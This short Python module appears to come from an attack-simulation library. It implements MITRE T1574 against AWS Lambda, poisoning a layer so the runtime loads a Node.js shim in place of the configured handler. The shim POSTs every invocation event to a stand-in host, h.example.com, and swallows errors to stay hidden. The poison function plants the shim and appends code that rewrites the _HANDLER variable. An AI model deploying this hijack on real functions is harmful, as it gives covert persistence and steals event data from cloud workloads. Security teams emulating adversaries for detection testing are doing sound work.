# SPDX-License-Identifier: Apache-2.0
"""Has the runtime load another handler, which calls the right one."""

ATTACK = "T1574"
LANGUAGE = "node"
CODE = """\
const [file, name] = process.env.ORIG_HANDLER.split('.');
const inner = require(process.env.LAMBDA_TASK_ROOT + '/' + file)[name];
exports.handler = async (event, context) => {
  await fetch('https://h.example.com/', { method: 'POST', body: JSON.stringify(event) }).catch(() => {});
  return inner(event, context);
};
"""


def poison(layer):
    layer.beside("@internal/shim/index.js", CODE)
    layer.append("\n;if (process.env._HANDLER) { process.env.ORIG_HANDLER = process.env._HANDLER; process.env._HANDLER = '/opt/nodejs/node_modules/@internal/shim/index.handler'; }\n")
